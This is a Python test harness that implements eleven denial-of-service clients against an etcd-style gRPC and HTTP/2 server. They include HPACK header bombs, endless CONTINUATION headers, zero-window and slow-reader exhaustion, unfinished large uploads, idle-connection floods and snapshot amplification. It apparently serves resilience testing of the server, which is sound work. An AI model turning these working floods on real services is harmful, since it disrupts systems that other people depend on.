#!/usr/bin/python3
"""Clients that mean no good, or know no better. Each is a program: attacks.py NAME ADDRESS SECONDS
[SCALE]; a scale below 1 makes it smaller. Ends after that time; a server that ends the connection
does not end it, it comes again. Tells in its last line what it did.

They expect the keys that `fill` has written.
"""

import base64
import json
import os
import select
import socket
import struct
import subprocess
import sys
import tempfile
import time

import http2
from http2 import Connection, frame

KEYS = 10_000
VALUE = b"v" * 256
RANGE, PUT, TXN = (f"/etcdserverpb.KV/{name}" for name in ("Range", "Put", "Txn"))
SNAPSHOT = "/etcdserverpb.Maintenance/Snapshot"
PREFIX = b"many/"
# A client that was refused comes again after this long.
AGAIN_SECONDS = 0.1


def key(number: int) -> bytes:
    return PREFIX + b"%05d" % number


def varint(value: int) -> bytes:
    encoded = b""
    while value > 127:
        encoded += bytes([value & 127 | 128])
        value >>= 7
    return encoded + bytes([value])


def field(number: int, payload: bytes) -> bytes:
    return varint(number << 3 | 2) + varint(len(payload)) + payload


ALL = field(1, PREFIX) + field(2, PREFIX[:-1] + b"0")
HUNDRED = field(1, key(0)) + field(2, key(100))
# Looks at every key and answers with none: min_mod_revision.
EVERY_KEY_LOOKED_AT = ALL + varint(10 << 3) + varint(2**40)


# All in the order of their values, from the last on: made as a whole.
ALL_SORTED = ALL + varint(5 << 3) + varint(2) + varint(6 << 3) + varint(4)


def fill(address: str) -> None:
    """Writes the keys."""
    connection = Connection(address)
    for first in range(0, KEYS, 100):
        txn = b"".join(field(2, field(2, field(1, key(number)) + field(2, VALUE)))
                       for number in range(first, first + 100))
        if connection.call("/etcdserverpb.KV/Txn", txn) is None:
            raise RuntimeError("the keys cannot be written")
    connection.close()


class Attack:
    def __init__(self, address: str, seconds: float, scale: float) -> None:
        self.address = address
        self.end = time.monotonic() + seconds
        self.scale = scale
        self.opened = 0
        self.ended_by_server = 0

    def left(self) -> float:
        return max(0.0, self.end - time.monotonic())

    def scaled(self, count: int) -> int:
        return max(1, round(count * self.scale))

    def connect(self, **options) -> Connection | None:
        """None if the time is over, or after a pause if there is no connection to be had."""
        if not self.left():
            return None
        try:
            connection = Connection(self.address, **options)
            self.opened += 1
            return connection
        except OSError:
            self.ended_by_server += 1
            time.sleep(min(AGAIN_SECONDS, self.left()))
            return None

    def fill_up(self, connections: list[Connection], count: int, **options) -> list[Connection]:
        """Connects until there are so many, or none is to be had; returns the new ones."""
        first = len(connections)
        while len(connections) < count:
            connection = self.connect(**options)
            if connection is None:
                break
            connections.append(connection)
        return connections[first:]

    def lost(self, connections: list[Connection], connection: Connection) -> None:
        """The server has ended it."""
        self.ended_by_server += 1
        connections.remove(connection)
        connection.close()

    def again_and_again(self, count: int, begin, **options) -> None:
        """Keeps so many connections, on each of which `begin` sends the attack once; what comes
        back is passed over."""
        connections: dict[int, Connection] = {}
        while self.left():
            while len(connections) < count and self.left():
                connection = self.connect(**options)
                if connection is None:
                    break
                try:
                    begin(connection)
                    connection.socket.setblocking(False)
                    connections[connection.socket.fileno()] = connection
                except OSError:
                    self.ended_by_server += 1
                    connection.close()
                    time.sleep(min(AGAIN_SECONDS, self.left()))
                    break
            self.pass_over(connections)

    def pass_over(self, connections: dict[int, Connection]) -> None:
        poller = select.poll()
        for number in connections:
            poller.register(number, select.POLLIN)
        for number, _ in poller.poll(min(0.1, self.left()) * 1000):
            try:
                if connections[number].socket.recv(1 << 20):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            self.ended_by_server += 1
            connections.pop(number).close()

    def run(self) -> None:
        raise NotImplementedError


class ManyRanges(Attack):
    """9,000 ranges of many steps in flight."""

    def run(self) -> None:
        with tempfile.NamedTemporaryFile() as body:
            body.write(http2.message(EVERY_KEY_LOOKED_AT))
            body.flush()
            while self.left() > 0.5:
                done = subprocess.run(
                    ["h2load", "-D", str(max(1, int(self.left()))), "-c", "6", "-m",
                     str(self.scaled(1500)), "-d", body.name, "-H", "content-type: application/grpc",
                     "-H", "te: trailers", f"http://{self.address}{RANGE}"],
                    capture_output=True, text=True, timeout=self.left() + 60)
                for line in done.stdout.splitlines():
                    if line.startswith("requests:"):
                        print(line)
                self.opened += 6
                time.sleep(AGAIN_SECONDS)


class ZeroWindows(Attack):
    """Asks for much and takes nothing of it."""

    def run(self) -> None:
        self.again_and_again(self.scaled(40), self.ask, window=0)

    @staticmethod
    def ask(connection: Connection) -> None:
        connection.socket.settimeout(1)  # the server reads on or it does not
        try:
            for _ in range(30):
                connection.send(b"".join(connection.request(RANGE, HUNDRED) for _ in range(100)))
        except TimeoutError:
            pass


class SlowReaders(Attack):
    """Take large answers by a few kilobytes at a time, through wide windows."""

    def run(self) -> None:
        connections: list[Connection] = []
        while self.left():
            for connection in self.fill_up(connections, self.scaled(20), receive_buffer=4096):
                try:
                    connection.send(b"".join(connection.request(RANGE, ALL) for _ in range(50)))
                except OSError:
                    self.lost(connections, connection)
            for connection in list(connections):
                try:
                    if connection.socket.recv(4096):
                        continue
                except OSError:
                    pass
                self.lost(connections, connection)
            time.sleep(min(0.05, self.left()))


class SortedRanges(Attack):
    """Ask for large answers that are made as a whole, and take nothing of them."""

    def run(self) -> None:
        self.again_and_again(self.scaled(20), self.ask, window=0)

    @staticmethod
    def ask(connection: Connection) -> None:
        read_only = field(2, field(1, ALL))
        connection.send(b"".join(connection.request(RANGE, ALL_SORTED) +
                                 connection.request(TXN, read_only) for _ in range(20)))


class JsonReaders(Attack):
    """Ask over HTTP/1.1 for large answers in JSON, in order and sorted; half of them take nothing,
    the others a few kilobytes at a time."""

    def run(self) -> None:
        asked = base64.b64encode(PREFIX).decode(), base64.b64encode(PREFIX[:-1] + b"0").decode()
        plain = {"key": asked[0], "range_end": asked[1]}
        sorted_ = {**plain, "sort_order": "DESCEND", "sort_target": "VALUE"}
        host, _, port = self.address.partition(":")
        readers: list[socket.socket] = []
        while self.left():
            while len(readers) < self.scaled(40) and self.left():
                try:
                    reader = socket.socket()
                    reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                    reader.settimeout(1)
                    reader.connect((host, int(port)))
                    body = json.dumps(plain if self.opened % 4 < 2 else sorted_).encode()
                    reader.sendall(b"POST /v3/kv/range HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                   b"Content-Length: %d\r\n\r\n" % len(body) + body)
                    self.opened += 1
                    readers.append(reader)
                except OSError:
                    self.ended_by_server += 1
                    time.sleep(min(AGAIN_SECONDS, self.left()))
            for reader in readers[::2]:
                try:
                    reader.settimeout(0)
                    if reader.recv(4096):
                        continue
                except BlockingIOError:
                    continue
                except OSError:
                    pass
                self.ended_by_server += 1
                readers.remove(reader)
                reader.close()
            time.sleep(min(0.05, self.left()))


class UnreadSnapshots(Attack):
    """Ask for many snapshots and take little of them."""

    def run(self) -> None:
        self.again_and_again(self.scaled(10), self.ask, window=100_000)

    @staticmethod
    def ask(connection: Connection) -> None:
        connection.send(b"".join(connection.request(SNAPSHOT, b"") for _ in range(20)))


class HeaderBombs(Attack):
    """15 KB of header block that stand for megabytes."""

    BLOCK = http2.head(RANGE) + http2.literal(b"bomb", b"b" * 4000, indexed=True) + b"\xbe" * 11_000

    def run(self) -> None:
        self.again_and_again(self.scaled(4), self.throw)

    def throw(self, connection: Connection) -> None:
        for _ in range(100):
            stream, connection.next_stream = connection.next_stream, connection.next_stream + 2
            connection.send(frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream,
                                  self.BLOCK))


class LongHeads(Attack):
    """60 KB of head on each of many streams, whose requests never come."""

    def run(self) -> None:
        self.again_and_again(self.scaled(20), self.send_heads)

    @staticmethod
    def send_heads(connection: Connection) -> None:
        block = http2.head(RANGE, *((b"x-%d" % number, b"x" * 3800) for number in range(15)))
        pieces = [block[start:start + http2.FRAME_MAX]
                  for start in range(0, len(block), http2.FRAME_MAX)]
        connection.socket.settimeout(1)
        try:
            for stream in range(1, 2000, 2):
                kinds = [http2.HEADERS] + [http2.CONTINUATION] * (len(pieces) - 1)
                connection.send(b"".join(
                    frame(kind, http2.END_HEADERS if piece is pieces[-1] else 0, stream, piece)
                    for kind, piece in zip(kinds, pieces)))
        except TimeoutError:
            pass


class UnfinishedMessages(Attack):
    """Large requests on many streams, each but for its end, as far as windows allow."""

    SIZE = 1_500_000

    def run(self) -> None:
        self.again_and_again(self.scaled(20), self.send_unfinished)

    def send_unfinished(self, connection: Connection) -> None:
        streams = 100
        of_connection = http2.WINDOW_AT_FIRST
        windows = {1 + 2 * number: http2.WINDOW_AT_FIRST for number in range(streams)}
        at_first = http2.WINDOW_AT_FIRST
        left = dict.fromkeys(windows, self.SIZE)
        for stream in windows:
            connection.send(frame(http2.HEADERS, http2.END_HEADERS, stream, http2.head(PUT)) +
                            frame(http2.DATA, 0, stream, struct.pack(">BI", 0, self.SIZE + 1)))
            windows[stream] -= 5
            of_connection -= 5
        connection.socket.settimeout(1)
        end = min(self.end, time.monotonic() + 5)
        try:
            while time.monotonic() < end:
                for stream, window in windows.items():
                    size = min(window, of_connection, left[stream], http2.FRAME_MAX)
                    if size > 0:
                        connection.send(frame(http2.DATA, 0, stream, bytes(size)))
                        windows[stream] -= size
                        left[stream] -= size
                        of_connection -= size
                kind, flags, stream, payload = connection.receive()
                if kind == http2.WINDOW_UPDATE:
                    more = struct.unpack(">I", payload)[0]
                    if stream == 0:
                        of_connection += more
                    elif stream in windows:
                        windows[stream] += more
                elif kind == http2.SETTINGS and not flags & http2.ACK:
                    for number, value in struct.iter_unpack(">HI", payload):
                        if number == http2.INITIAL_WINDOW_SIZE:
                            for each in windows:
                                windows[each] += value - at_first
                            at_first = value
                elif kind == http2.RESET:
                    windows.pop(stream, None)
        except TimeoutError:
            pass  # it takes no more


class GzipReaders(Attack):
    """Large answers, compressed, taken as fast as they come."""

    def run(self) -> None:
        connections: list[Connection] = []
        while self.left():
            self.fill_up(connections, self.scaled(4), timeout=5)
            for connection in list(connections):
                try:
                    asked = connection.next_stream
                    connection.send(connection.request(RANGE, ALL,
                                                       (b"grpc-accept-encoding", b"gzip")))
                    while self.left():
                        _, flags, stream, payload = connection.receive()
                        if stream == asked and (flags & http2.END_STREAM):
                            break
                except TimeoutError:
                    pass
                except OSError:
                    self.lost(connections, connection)


class IdleConnections(Attack):
    """As many as the server takes, HTTP/2 and nothing at all, and one more now and then."""

    def run(self) -> None:
        host, _, port = self.address.partition(":")
        idle = []
        while self.left():
            try:
                connection = socket.create_connection((host, int(port)), timeout=1)
                if len(idle) % 2:
                    connection.sendall(http2.PREFACE + frame(http2.SETTINGS, 0, 0))
                connection.setblocking(False)
                idle.append(connection)
                self.opened += 1
            except OSError:
                time.sleep(min(AGAIN_SECONDS, self.left()))
            if len(idle) % 50 == 0 or len(idle) > 1500:
                alive = [connection for connection in idle if not self.is_closed(connection)]
                self.ended_by_server += len(idle) - len(alive)
                idle = alive
                time.sleep(min(AGAIN_SECONDS, self.left()))

    @staticmethod
    def is_closed(connection: socket.socket) -> bool:
        try:
            while received := connection.recv(4096):
                pass
            connection.close()
            return not received
        except BlockingIOError:
            return False
        except OSError:
            connection.close()
            return True


ATTACKS = {
    "many-ranges": ManyRanges,
    "zero-windows": ZeroWindows,
    "slow-readers": SlowReaders,
    "sorted-ranges": SortedRanges,
    "json-readers": JsonReaders,
    "unread-snapshots": UnreadSnapshots,
    "header-bombs": HeaderBombs,
    "long-heads": LongHeads,
    "unfinished-messages": UnfinishedMessages,
    "gzip-readers": GzipReaders,
    "idle-connections": IdleConnections,
}


class Running:
    """Attacks that are under way, a process each."""

    def __init__(self, names, address: str, seconds: float, scale: float = 1,
                 prefix: tuple[str, ...] = ()) -> None:
        self.processes = {
            name: subprocess.Popen([*prefix, sys.executable, __file__, name, address, str(seconds),
                                    str(scale)],
                                   stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                                   process_group=0)
            for name in names}

    def stop(self) -> None:
        """At once; with whatever they have started."""
        for process in self.processes.values():
            if process.poll() is None:
                os.killpg(process.pid, 9)
        for process in self.processes.values():
            process.wait()
            process.stdout.close()

    def wait(self, timeout: float) -> dict[str, str]:
        """What each says, after its time is over."""
        end = time.monotonic() + timeout
        return {name: process.communicate(timeout=max(1, end - time.monotonic()))[0].strip()
                for name, process in self.processes.items()}


def main() -> None:
    if len(sys.argv) not in (4, 5) or sys.argv[1] not in ATTACKS:
        raise SystemExit(__doc__)
    name, address, seconds, *scale = sys.argv[1:]
    attack = ATTACKS[name](address, float(seconds), float(scale[0]) if scale else 1)
    attack.run()
    print(f"{attack.opened} connections, {attack.ended_by_server} refused or ended by the server")


if __name__ == "__main__":
    main()
